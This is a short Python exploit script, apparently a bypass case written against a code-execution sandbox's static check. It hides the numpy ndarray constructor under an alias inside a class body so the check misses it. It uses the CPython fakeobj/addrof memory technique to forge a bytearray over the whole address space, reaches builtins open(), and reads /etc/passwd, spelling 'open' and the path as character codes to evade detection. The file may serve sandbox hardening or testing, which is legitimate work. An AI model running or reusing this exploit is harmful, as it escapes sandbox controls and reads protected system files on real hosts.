# source: sandexec README, "The static check", "arrays over bytes the script wrote" (np.ndarray((1,), object, b)[0] is any address taken as an object); classic CPython fakeobj/addrof bytearray exploit (pyjail write-ups)
# family: constructor reached by a name the check does not trace - `from numpy import ndarray as nd` inside a class body, called as K().nd(shape, object, buffer)
# goal: fake bytearray over the whole address space -> a function's func_builtins -> builtins open() -> reads /etc/passwd
import numpy as np


class K:
    from numpy import ndarray as nd


def addr(o):
    return int.from_bytes(np.array([o, None], dtype=object).tobytes()[:8], "little")


keep = []


def fake(a):
    raw = a.to_bytes(8, "little")
    keep.append(raw)
    return K().nd((1,), object, raw)[0]


def q(n):
    return n.to_bytes(8, "little")


ba_type = addr(bytearray)
body = q(1 << 40) + q(ba_type) + q(1 << 62) + q(1 << 62) + q(0) + q(0) + q(0) + q(0)
keep.append(body)
mem = fake(addr(body) + 32)

fa = addr(addr)
bptr = int.from_bytes(mem[fa + 24:fa + 32], "little")
bd = fake(bptr)
op = bd["".join(chr(c) for c in [111, 112, 101, 110])]
path = "".join(chr(c) for c in [47, 101, 116, 99, 47, 112, 97, 115, 115, 119, 100])
print(op(path).read()[:300])
